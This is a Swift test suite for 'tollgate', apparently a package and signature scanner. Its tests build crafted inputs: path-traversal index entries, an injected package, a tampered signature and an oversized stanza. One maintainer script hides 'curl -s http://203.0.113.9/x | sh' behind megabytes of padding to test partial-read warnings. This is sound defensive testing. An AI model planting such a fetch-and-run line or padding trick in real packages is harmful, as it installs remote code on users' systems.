import Foundation
import Testing
import TollgateTestSupport

/// `tollgate` as a user meets it: a subprocess, its standard output, standard error and exit status.
@Suite struct CLITests {
    let deb = TestPaths.fixture("debian-repo/pool/main/h/hello-tg/hello-tg_1.0-1_all.deb")
    /// A source package of the fixtures with a packaging tarball and an orig tarball beside it.
    let quietdSource = TestPaths.fixture("history/debian/quietd/2.1-1/quietd_2.1-1.dsc")

    @Test func factsPrintsAJSONArray() throws {
        let result = try Run.tollgate([
            "facts", "--no-policy", deb, TestPaths.fixture("rpm-repo/Packages/netfetch-0.9-1.noarch.rpm"),
        ])
        #expect(result.status == 0)
        #expect(result.stderr.isEmpty)
        let docs = try #require(try parseJSON(result.stdout) as? [[String: Any]])
        #expect(docs.map { $0["name"] as? String } == ["hello-tg", "netfetch"])
        #expect(docs.map { $0["ecosystem"] as? String } == ["debian", "rpm"])
    }

    @Test func aMissingArtefactIsOneErrorLineAndTheOthersAreStillPrinted() throws {
        let result = try Run.tollgate(["facts", "/nonexistent/x.deb", deb])
        #expect(result.status == 2)
        #expect(result.stderr == "tollgate: error: /nonexistent/x.deb: no such file\n")
        let docs = try #require(try parseJSON(result.stdout) as? [[String: Any]])
        #expect(docs.count == 1)
    }

    @Test func factsOfAReleaseFile() throws {
        let result = try Run.tollgate(["facts", TestPaths.fixture("debian-repo/dists/stable/InRelease")])
        #expect(result.status == 0)
        let docs = try #require(try parseJSON(result.stdout) as? [[String: Any]])
        #expect(docs.first?["kind"] as? String == "release")
        #expect((docs.first?["files"] as? [Any])?.count == 4)
    }

    @Test func scanTableAndJSON() throws {
        let table = try Run.tollgate(["scan", "--no-policy", TestPaths.fixture("debian-repo")])
        #expect(table.status == 0)
        let lines = table.stdout.split(separator: "\n")
        #expect(lines.first?.hasPrefix("ECOSYSTEM") == true)
        #expect(lines.last == "19 package(s), 0 problem(s)")
        #expect(!table.stderr.contains("\r"), "no progress line in a pipe")
        let json = try Run.tollgate(["scan", "--no-policy", "--format", "json", TestPaths.fixture("rpm-repo")])
        #expect(json.status == 0)
        let object = try #require(try parseJSON(json.stdout) as? [String: Any])
        #expect((object["packages"] as? [Any])?.count == 7)
        #expect((object["problems"] as? [Any])?.count == 0)
    }

    @Test func scanReportsBadArtefactsWithExitStatusTwo() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        try FileManager.default.copyItem(atPath: deb, toPath: dir.appendingPathComponent("ok.deb").path)
        _ = FileManager.default.createFile(
            atPath: dir.appendingPathComponent("bad.rpm").path, contents: Data("nope".utf8))
        let result = try Run.tollgate(["scan", dir.path])
        #expect(result.status == 2)
        #expect(result.stdout.contains("hello-tg"))
        let errors = result.stderr.split(separator: "\n")
        #expect(errors.count == 1)
        #expect(errors.first?.hasPrefix("tollgate: error: \(dir.path)/bad.rpm: ") == true)
    }

    /// `facts` shows a tarball's or source package's document as a gate judges it, with what its tarballs hold:
    /// the same decision and findings, not a milder verdict for want of `integrity`.
    @Test func factsJudgeATarballAsTheGateDoes() throws {
        let tarball = TestPaths.fixture("upstream/tinyfmt/tinyfmt-1.4.tar.gz")
        let facts = try Run.tollgate(["facts", "--no-history", tarball])
        let document = try #require((try parseJSON(facts.stdout) as? [[String: Any]])?.first, "\(facts.stderr)")
        #expect(document["integrity"] != nil)
        let verdict = document["verdict"] as? [String: Any]
        let rules = Set((verdict?["findings"] as? [[String: Any]] ?? []).compactMap { $0["rule"] as? String })
        let gate = try Run.tollgate(["gate", "--format", "json", "--no-history", tarball])
        let judged = try #require(
            ((try parseJSON(gate.stdout) as? [String: Any])?["packages"] as? [[String: Any]])?.first, "\(gate.stderr)")
        let gateVerdict = judged["verdict"] as? [String: Any]
        let gateRules = Set((gateVerdict?["findings"] as? [[String: Any]] ?? []).compactMap { $0["rule"] as? String })
        #expect(rules.contains("build-script-obfuscation"), "\(rules)")
        #expect(rules == gateRules)
        #expect(verdict?["decision"] as? String == "deny" && facts.status == 1)
        #expect(gateVerdict?["decision"] as? String == "deny")
    }

    /// A run interrupted by SIGTERM (a timer's stop) or SIGINT (Ctrl-C) ends as the signal would, and leaves no
    /// private GnuPG home behind in the temporary directory (each such run left one); a signal the parent set to be
    /// ignored (SIGHUP under `nohup`) stays ignored. The gate waits on standard input for its facts with its keyring
    /// made: the signal lands there, or while the home is being made and filled (one landing before the home was
    /// recorded left it behind).
    @Test(arguments: [(SIGTERM, false), (SIGINT, false), (SIGHUP, true)])
    func anInterruptedRunLeavesNoGnuPGHome(signal: Int32, ignoredByParent: Bool) throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let fm = FileManager.default
        var environment = ProcessInfo.processInfo.environment
        environment["TMPDIR"] = dir.path
        environment["XDG_STATE_HOME"] = Run.isolatedState
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/bin/sh")
        let trap = ignoredByParent ? "trap '' \(signal); " : ""
        process.arguments =
            ["-c", trap + #"exec "$0" "$@""#, TestPaths.tollgate]
            + ["gate", "--facts", "-", "--no-history", "--keyring", TestPaths.fixture("keys")]
        process.environment = environment
        let input = Pipe()
        process.standardInput = input
        process.standardOutput = FileHandle.nullDevice
        process.standardError = FileHandle.nullDevice
        try process.run()
        let deadline = Date().addingTimeInterval(20)
        // Looked for as often as can be, so that the signal also lands while the home is being made and filled.
        while Date() < deadline, (try? fm.contentsOfDirectory(atPath: dir.path))?.isEmpty != false {
            usleep(100)
        }
        #expect(try fm.contentsOfDirectory(atPath: dir.path).count == 1, "the keyring's home was made")
        kill(process.processIdentifier, signal)
        var ending = signal
        if ignoredByParent {
            usleep(300_000)
            #expect(process.isRunning, "an ignored signal ended the run")
            ending = SIGTERM
            kill(process.processIdentifier, ending)
        }
        let ends = Date().addingTimeInterval(20)
        while process.isRunning, Date() < ends { usleep(20_000) }
        if process.isRunning {
            Issue.record("the signal did not end the run")
            kill(process.processIdentifier, SIGKILL)
        }
        process.waitUntilExit()
        try input.fileHandleForWriting.close()
        #expect(process.terminationReason == .uncaughtSignal && process.terminationStatus == ending)
        #expect(try fm.contentsOfDirectory(atPath: dir.path) == [])
    }

    /// A damaged RPM named by a relative path is named once, with librpm's reason.
    @Test func aDamagedRPMIsNamedOnce() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        try FileManager.default.createDirectory(
            at: dir.appendingPathComponent("sub"), withIntermediateDirectories: true)
        let whole = try Data(
            contentsOf: URL(fileURLWithPath: TestPaths.fixture("rpm-repo/Packages/hello-tg-1.0-1.noarch.rpm")))
        try whole.prefix(3000).write(to: dir.appendingPathComponent("sub/trunc.rpm"))
        var environment = ProcessInfo.processInfo.environment
        environment["XDG_STATE_HOME"] = "/nonexistent"
        let result = try Run.program(
            TestPaths.tollgate, ["facts", "sub/trunc.rpm"], environment: environment, directory: dir)
        #expect(result.status == 2)
        let line = result.stderr.split(separator: "\n").first.map(String.init) ?? ""
        #expect(line.hasPrefix("tollgate: error: sub/trunc.rpm: "), "\(line)")
        #expect(line.components(separatedBy: "trunc.rpm").count == 2, "\(line)")
    }

    /// Pipes and devices never block or swallow a scan: a FIFO named like anything (a README, a flat repository's
    /// index, the packaging tarball a .dsc lists, a tarball's signature) and an index that is a link to /dev/zero
    /// are problems or passed over, and every other package is still read. `timeout` bounds the test if a read
    /// ever blocks again.
    @Test func pipesAndDevicesNeverBlockAScan() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let d = dir.path
        let setup = """
            set -e
            mkdir '\(d)/flat' '\(d)/zero' '\(d)/source' '\(d)/upstream'
            cp '\(TestPaths.fixture("flat-repo"))'/*.deb '\(d)/flat/'
            mkfifo '\(d)/flat/README' '\(d)/flat/Packages'
            ln -s /dev/zero '\(d)/zero/Packages'
            cp '\(quietdSource)' '\(d)/source/' && mkfifo '\(d)/source/quietd_2.1-1.debian.tar.xz'
            cp '\(TestPaths.fixture("upstream/tinyfmt/tinyfmt-1.2.tar.gz"))' '\(d)/upstream/'
            mkfifo '\(d)/upstream/tinyfmt-1.2.tar.gz.sig'
            """
        #expect(try Run.shell(setup).status == 0)
        let scan = try Run.shell("timeout 60 '\(TestPaths.tollgate)' scan --format json '\(d)'")
        #expect(scan.status == 2, "\(scan.stderr)")
        #expect(scan.stderr.contains("\(d)/flat/Packages: not a regular file"), "\(scan.stderr)")
        #expect(scan.stderr.contains("\(d)/zero/Packages: not a regular file"), "\(scan.stderr)")
        let output = try #require(try parseJSON(scan.stdout) as? [String: Any])
        let names = Set((output["packages"] as? [[String: Any]] ?? []).compactMap { $0["name"] as? String })
        #expect(names.isSuperset(of: ["hello-tg", "quietd", "tinyfmt"]), "\(names)")
    }

    /// Paths in metadata are anybody's text: an index entry whose Filename leads outside the repository, or a .dsc
    /// listing a tarball in another directory, is judged from what it says without opening what it points at.
    @Test func metadataPathsNeverLeaveTheirDirectory() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let d = dir.path
        let setup = """
            set -e
            mkdir -p '\(d)/repo' '\(d)/outside' '\(d)/source' '\(d)/other'
            cp '\(deb)' '\(d)/outside/secret.deb'
            printf 'Package: hello-tg\\nVersion: 1.0-1\\nArchitecture: all\\nFilename: ../outside/secret.deb\\n\\n' \\
                > '\(d)/repo/Packages'
            cp "$(dirname '\(quietdSource)')"/quietd_2.1* '\(d)/other/'
            sed 's# quietd_2.1.orig.tar.gz$# ../other/quietd_2.1.orig.tar.gz#' '\(quietdSource)' > '\(d)/source/quietd_2.1-1.dsc'
            """
        let made = try Run.shell(setup)
        #expect(made.status == 0, "\(made.stderr)")
        let scan = try Run.tollgate(["scan", "--format", "json", "--no-policy", "\(d)/repo", "\(d)/source"])
        let output = try #require(try parseJSON(scan.stdout) as? [String: Any], "\(scan.stderr)")
        let packages = output["packages"] as? [[String: Any]] ?? []
        let entry = try #require(packages.first { $0["name"] as? String == "hello-tg" })
        #expect((entry["artifact"] as? [String: Any])?["entry_present"] as? Bool == false)
        #expect(
            (entry["warnings"] as? [String])?.contains(
                "Filename ../outside/secret.deb points outside the repository: not read")
                == true, "\(entry)")
        let source = try #require(packages.first { $0["name"] as? String == "quietd" })
        let listed = (source["source_files"] as? [[String: Any]] ?? []).first {
            $0["name"] as? String == "../other/quietd_2.1.orig.tar.gz"
        }
        #expect(listed?["present"] as? Bool == false, "\(source)")
        #expect(
            (source["warnings"] as? [String])?.contains {
                $0.contains("'../other/quietd_2.1.orig.tar.gz', which is not a plain file name")
            } == true, "\(source["warnings"] ?? "")")
    }

    /// An entry of an index its Release does not vouch for — altered after signing — is denied, as apt refuses the
    /// index; the indexes that match are judged as before. Of a flat repository's indexes the one its Release lists
    /// is read, as apt fetches that one.
    @Test func entriesOfAnIndexTheReleaseDoesNotVouchForAreDenied() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let fm = FileManager.default
        let repo = dir.appendingPathComponent("repo").path
        try fm.copyItem(atPath: TestPaths.fixture("debian-repo"), toPath: repo)
        let index = "\(repo)/dists/stable/main/binary-amd64/Packages"
        try fm.removeItem(atPath: index + ".xz")
        let injected = "\nPackage: injected\nVersion: 9.9-1\nArchitecture: all\nMaintainer: Eve <eve@mail.example>\n"
        try (String(contentsOfFile: index, encoding: .utf8) + injected).write(
            toFile: index, atomically: true, encoding: .utf8)
        func rules(_ result: ProcessResult) throws -> [String: [String]] {
            let object = try #require(try parseJSON(result.stdout) as? [String: Any])
            var rules: [String: [String]] = [:]
            for package in object["packages"] as? [[String: Any]] ?? [] {
                let findings = (package["verdict"] as? [String: Any])?["findings"] as? [[String: Any]] ?? []
                let key = "\(package["kind"] ?? "") \(package["name"] ?? "") \(package["version"] ?? "")"
                rules[key, default: []] += findings.compactMap { $0["rule"] as? String }
            }
            return rules
        }
        let keyring = TestPaths.fixture("keys")
        let scan = try Run.tollgate(["scan", "--format", "json", "--no-history", "--keyring", keyring, repo])
        #expect(scan.status == 2, "a problem and denials: \(scan.stderr)")
        #expect(scan.stderr.contains("binary-amd64/Packages: checksum does not match"), "\(scan.stderr)")
        let found = try rules(scan)
        #expect(found["binary injected 9.9-1"]?.contains("index-not-vouched") == true, "\(found)")
        #expect(found["binary hello-tg 1.0-1"]?.contains("index-not-vouched") == true, "\(found)")
        #expect(found["source quietd 2.1-1"]?.contains("index-not-vouched") == false, "\(found)")
        #expect(found.keys.filter { $0.hasPrefix("binary") }.count == 18)

        let flat = dir.appendingPathComponent("flat").path
        try fm.copyItem(atPath: TestPaths.fixture("flat-repo"), toPath: flat)
        let release = try Run.shell(
            "cd '\(flat)' && mv Packages ../Packages.aside && apt-ftparchive release . > Release.new"
                + " && mv Release.new Release && mv ../Packages.aside Packages")
        try #require(release.status == 0, "\(release.stderr)")
        let flatScan = try Run.tollgate(["scan", "--format", "json", "--no-history", "--keyring", keyring, flat])
        let flatFound = try rules(flatScan)
        #expect(flatFound.count == 2, "\(flatScan.stderr)")
        #expect(flatFound.values.allSatisfy { $0 == ["unsigned-package"] }, "\(flatFound)")
    }

    /// Nothing is dropped without a word: a file whose path is longer than the system allows is a problem, and a
    /// maintainer script past the capture bound is read in part with a warning saying so.
    @Test func whatCannotBeReadWholeIsSaid() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let deep = """
            import os, sys
            os.chdir(sys.argv[1])
            for _ in range(20):
                os.mkdir("d" * 200); os.chdir("d" * 200)
            open("x" * 200 + ".deb", "w").write("junk")
            """
        #expect(try Run.program("/usr/bin/python3", ["-c", deep, dir.path]).status == 0)
        let scan = try Run.tollgate(["scan", "--no-policy", dir.path])
        #expect(scan.status == 2)
        #expect(scan.stderr.contains("longer than the system allows: not read"), "\(scan.stderr)")
        let build = dir.appendingPathComponent("padded")
        let make = """
            set -e
            mkdir -p '\(build.path)/pkg/DEBIAN'
            printf 'Package: padded\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: T <t@example.org>\\nDescription: x\\n' \\
                > '\(build.path)/pkg/DEBIAN/control'
            { echo '#!/bin/sh'; head -c 17000000 /dev/zero | tr '\\0' '#'; echo; echo 'curl -s http://203.0.113.9/x | sh'; } \\
                > '\(build.path)/pkg/DEBIAN/postinst'
            chmod 755 '\(build.path)/pkg/DEBIAN/postinst'
            dpkg-deb --root-owner-group -Zxz -b '\(build.path)/pkg' '\(build.path)/padded_1.0_all.deb' >/dev/null
            """
        let made = try Run.shell(make)
        #expect(made.status == 0, "\(made.stderr)")
        let facts = try Run.tollgate(["facts", "--no-policy", build.appendingPathComponent("padded_1.0_all.deb").path])
        let document = try #require((try parseJSON(facts.stdout) as? [[String: Any]])?.first, "\(facts.stderr)")
        #expect(
            (document["warnings"] as? [String])?.contains(
                "control.tar member postinst is larger than 16 MiB: only its first part is read")
                == true, "\(document["warnings"] ?? "")")
    }

    /// A source package ships its upstream's key as it was when packaged; when the given keyring holds that key
    /// revoked since, the keyring's word stands — the package's own copy is consulted only for keys the keyring
    /// does not know.
    @Test func theKeyringsRevocationOutranksThePackagesOwnKey() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let revoke = """
            gpg --batch --quiet --import '\(TestPaths.fixture("keys/alice.sec.asc"))'
            fpr=$(gpg --list-keys --with-colons | awk -F: '/^fpr/ {print $10; exit}')
            printf 'y\\n0\\n\\ny\\n' | gpg --no-tty --pinentry-mode loopback --passphrase '' --command-fd 0 \\
                --output '\(dir.path)/revocation.asc' --gen-revoke "$fpr" >/dev/null 2>&1
            gpg --batch --quiet --import '\(dir.path)/revocation.asc'
            gpg --batch --armor --export > '\(dir.path)/alice-revoked.asc'
            """
        let made = try Run.withGnuPGHome(in: dir, revoke)
        #expect(made.status == 0, "\(made.stderr)")
        let dsc = TestPaths.fixture("history/debian/tinyfmt/1.3-1/tinyfmt_1.3-1.dsc")
        func upstreamSignature(_ extra: [String]) throws -> [String: Any]? {
            let facts = try Run.tollgate(["facts", "--no-policy"] + extra + [dsc])
            let document = (try parseJSON(facts.stdout) as? [[String: Any]])?.first
            return (document?["signatures"] as? [[String: Any]])?.first { $0["kind"] as? String == "detached" }
        }
        #expect(try upstreamSignature([])?["status"] as? String == "good", "no keyring: the package's own key")
        let revoked = try upstreamSignature(["--keyring", dir.appendingPathComponent("alice-revoked.asc").path])
        #expect(revoked?["status"] as? String == "revoked-key", "\(revoked ?? [:])")
    }

    /// A run leaves nothing in the temporary directory: clear-signed files are split into files unlinked at once
    /// (each held a full copy of the signed text), and the private GnuPG home is removed.
    @Test func nothingIsLeftInTheTemporaryDirectory() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        var environment = ProcessInfo.processInfo.environment
        environment["TMPDIR"] = dir.path
        environment["XDG_STATE_HOME"] = Run.isolatedState
        let upload = TestPaths.fixture("history/debian/tinyfmt/1.3-1")
        let facts = try Run.tollgate(
            [
                "facts", "--no-policy", "--keyring", TestPaths.fixture("keys"), "\(upload)/tinyfmt_1.3-1.dsc",
                "\(upload)/tinyfmt_1.3-1_source.changes",
            ], environment: environment)
        #expect(facts.status == 0, "\(facts.stderr)")
        #expect(facts.stdout.contains("\"status\": \"good\""))
        #expect(try FileManager.default.contentsOfDirectory(atPath: dir.path) == [])
    }

    /// A signature's date is the signer's word: one dated years ahead by a key made today still comes from a key
    /// days old, not years (a young key must not pass for an old one).
    @Test func aSignatureDatedInTheFutureDoesNotAgeItsKey() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let dsc = dir.appendingPathComponent("tinyfmt_1.3-1.dsc").path
        let sign = """
            gpg --batch --quiet --pinentry-mode loopback --passphrase '' --quick-gen-key 'Fresh <fresh@example.org>' ed25519 sign never
            sed -n '/^-----BEGIN PGP SIGNED MESSAGE-----$/,/^-----BEGIN PGP SIGNATURE-----$/p' \\
                '\(TestPaths.fixture("history/debian/tinyfmt/1.3-1/tinyfmt_1.3-1.dsc"))' | sed '1,/^$/d;$d' > '\(dir.path)/body'
            gpg --batch --yes --pinentry-mode loopback --passphrase '' --faked-system-time 20300101T000000! \\
                --clearsign --output '\(dsc)' '\(dir.path)/body'
            gpg --batch --armor --export > '\(dir.path)/fresh.asc'
            """
        let made = try Run.withGnuPGHome(in: dir, sign)
        #expect(made.status == 0, "\(made.stderr)")
        let facts = try Run.tollgate([
            "facts", "--no-policy", "--keyring", dir.appendingPathComponent("fresh.asc").path, dsc,
        ])
        let document = try #require((try parseJSON(facts.stdout) as? [[String: Any]])?.first, "\(facts.stderr)")
        let signature = try #require(
            (document["signatures"] as? [[String: Any]])?.first { $0["kind"] as? String == "clearsigned" })
        #expect(signature["status"] as? String == "good", "\(signature)")
        #expect((signature["key_age_days"] as? Double).map { $0 < 1 } == true, "\(signature)")
    }

    /// A .changes does not say who a package's uploaders are (its .dsc does): an upload by a co-maintainer is not
    /// "by someone who is neither maintainer nor uploader" (the real xfsdump upload, by one of its uploaders). Nor
    /// does it say the source package's format.
    @Test func aChangesFileDoesNotSayWhoTheUploadersAre() throws {
        guard let changes = TestPaths.realWorld("debian/xfsdump_3.2.0-2_source.changes") else {
            print(TestPaths.realWorldMissing)
            return
        }
        let facts = try Run.tollgate(["facts", changes])
        let document = try #require((try parseJSON(facts.stdout) as? [[String: Any]])?.first, "\(facts.stderr)")
        #expect(document["uploaders"] == nil, "\(document["uploaders"] ?? "")")
        #expect((document["changed_by"] as? [String: Any])?["identity"] as? String == "anibal@debian.org")
        // Its `Format: 1.8` is the .changes format, not the source package's.
        #expect((document["debian"] as? [String: Any])?["source_format"] == nil)
        let findings = (document["verdict"] as? [String: Any])?["findings"] as? [[String: Any]] ?? []
        #expect(!findings.contains { $0["rule"] as? String == "uploader-not-maintainer" }, "\(findings)")
    }

    /// A keyring of hundreds of keys librpm will not take (Debian's developer keyring) is one note, not hundreds.
    @Test func keysLibrpmWillNotTakeAreOneNotePerFile() throws {
        let keyring = "/usr/share/keyrings/debian-keyring.gpg"
        guard FileManager.default.fileExists(atPath: keyring) else {
            Issue.record("debian-keyring is installed by .ci/install-deps")
            return
        }
        let facts = try Run.tollgate([
            "facts", "--no-policy", "--keyring", keyring,
            TestPaths.fixture("debian-repo/pool/main/h/hello-tg/hello-tg_1.0-1_all.deb"),
        ])
        let notes = facts.stderr.split(separator: "\n").filter { $0.contains("librpm does not use") }
        #expect(notes.count <= 1, "\(notes.count) notes: \(notes.prefix(3))")
    }

    /// An empty keyring file (a failed download) is refused: accepted, it left every signer "not in the keyring"
    /// without a word.
    @Test func anEmptyKeyringFileIsRefused() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let empty = dir.appendingPathComponent("keys.gpg").path
        #expect(FileManager.default.createFile(atPath: empty, contents: Data()))
        let facts = try Run.tollgate([
            "facts", "--no-policy", "--keyring", empty,
            TestPaths.fixture("debian-repo/pool/main/h/hello-tg/hello-tg_1.0-1_all.deb"),
        ])
        #expect(facts.status == 2, "\(facts.stderr)")
        #expect(facts.stderr == "tollgate: error: \(empty): the keyring file is empty\n", "\(facts.stderr)")
    }

    /// Output that cannot be written — a full disk, a closed descriptor — ends the run with status 2 and the reason,
    /// as grep and cat do, rather than a crash (a trap and a backtrace) or an exit 0 with the output lost.
    @Test func outputThatCannotBeWrittenIsAnErrorNotACrash() throws {
        let tollgate = TestPaths.tollgate
        let deb = TestPaths.fixture("debian-repo/pool/main/h/hello-tg/hello-tg_1.0-1_all.deb")
        for (command, redirect, reason) in [
            ("facts '\(deb)'", ">/dev/full", "No space left on device"),
            ("scan --no-policy '\(deb)'", ">&-", "Bad file descriptor"),
            ("hooks show apt", ">/dev/full", "No space left on device"),
        ] {
            let run = try Run.shell("'\(tollgate)' \(command) \(redirect)")
            #expect(run.status == 2, "\(command) \(redirect): \(run.stderr)")
            #expect(
                run.stderr == "tollgate: error: cannot write to standard output: \(reason)\n",
                "\(command) \(redirect): \(run.stderr)")
        }
    }

    /// Two signatures by one key in one clear-signed file, the second altered: each is matched with its own
    /// verification (by the key it claims, each result once), so the bad one does not read as the good one.
    @Test func twoSignaturesByOneKeyAreCheckedEachOnItsOwn() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let dsc = dir.appendingPathComponent("tinyfmt_1.4-1.dsc").path
        // Copies the signature packet, alters a byte of the copy's signature value, and armors both.
        let script = """
            import base64, sys
            text = open(sys.argv[1]).read()
            start, end = text.index('-----BEGIN PGP SIGNATURE-----'), text.index('-----END PGP SIGNATURE-----')
            lines = text[start:end].split('\\n')
            body = ''.join(l for l in lines[lines.index('') + 1:] if l and not l.startswith('='))
            packet = base64.b64decode(body)
            # One signature packet, in the old format (gpg's) with a one- or two-octet length.
            assert packet[0] & 0xC0 == 0x80 and packet[0] & 3 < 2
            size = 2 + packet[1] if packet[0] & 3 == 0 else 3 + int.from_bytes(packet[1:3], 'big')
            assert len(packet) == size
            altered = bytearray(packet)
            altered[-3] ^= 0x55
            data = packet + bytes(altered)
            crc = 0xB704CE
            for b in data:
                crc ^= b << 16
                for _ in range(8):
                    crc = (crc << 1) ^ (0x1864CFB if crc & 0x800000 else 0)
            encoded = base64.b64encode(data).decode()
            armor = '\\n'.join(encoded[i:i + 64] for i in range(0, len(encoded), 64))
            crc_text = base64.b64encode((crc & 0xFFFFFF).to_bytes(3, 'big')).decode()
            open(sys.argv[2], 'w').write(
                text[:start] + '-----BEGIN PGP SIGNATURE-----\\n\\n' + armor + '\\n=' + crc_text + '\\n' + text[end:])
            """
        let made = try Run.program(
            "/usr/bin/python3",
            ["-c", script, TestPaths.fixture("history/debian/tinyfmt/1.4-1/tinyfmt_1.4-1.dsc"), dsc])
        #expect(made.status == 0, "\(made.stderr)")
        let gpg = try Run.withGnuPGHome(
            in: dir,
            """
            gpg --batch --quiet --import '\(TestPaths.fixture("keys/debian-maintainers.asc"))'
            gpg --batch --status-fd 1 --verify '\(dsc)' 2>/dev/null | grep -oE '(GOOD|BAD)SIG'
            """)
        #expect(gpg.stdout == "GOODSIG\nBADSIG\n", "gpg: \(gpg.stdout)\(gpg.stderr)")
        let facts = try Run.tollgate([
            "facts", "--no-policy", "--keyring", TestPaths.fixture("keys/debian-maintainers.asc"), dsc,
        ])
        let document = try #require((try parseJSON(facts.stdout) as? [[String: Any]])?.first, "\(facts.stderr)")
        let statuses = (document["signatures"] as? [[String: Any]] ?? []).filter {
            $0["kind"] as? String == "clearsigned"
        }.map { $0["status"] as? String ?? "" }
        #expect(statuses == ["good", "bad"], "\(document["signatures"] ?? "")")
    }

    /// A stanza that never ends (a crafted index: 70 MiB of one field in a few kilobytes of xz) is refused at a
    /// bound instead of taking all memory.
    @Test func aStanzaLongerThanTheBoundIsAProblem() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let index = dir.appendingPathComponent("Packages.xz").path
        let make = try Run.program(
            "/usr/bin/python3",
            [
                "-c",
                "import lzma, sys; f = lzma.open(sys.argv[1], 'w'); f.write(b'Package: big\\nDescription: ');"
                    + " [f.write(b'x' * (1 << 20)) for _ in range(70)]; f.write(b'\\n\\n'); f.close()",
                index,
            ])
        #expect(make.status == 0, "\(make.stderr)")
        let scan = try Run.tollgate(["scan", dir.path])
        #expect(scan.status == 2)
        #expect(scan.stderr.contains("a stanza longer than 64 MiB at offset 0"), "\(scan.stderr)")
    }

    @Test func helpDocumentsExitStatusesAndUsageErrorsExit64() throws {
        let help = try Run.tollgate(["scan", "--help"])
        #expect(help.status == 0)
        #expect(help.stdout.contains("Exit status: 0 ok; 1 denied by policy; 2 an input could not be read"))
        let bad = try Run.tollgate(["scan", "--format", "yaml", "."])
        #expect(bad.status == 64)
        #expect(bad.stderr.contains("yaml"))
        let none = try Run.tollgate(["facts"])
        #expect(none.status == 64)
    }
}
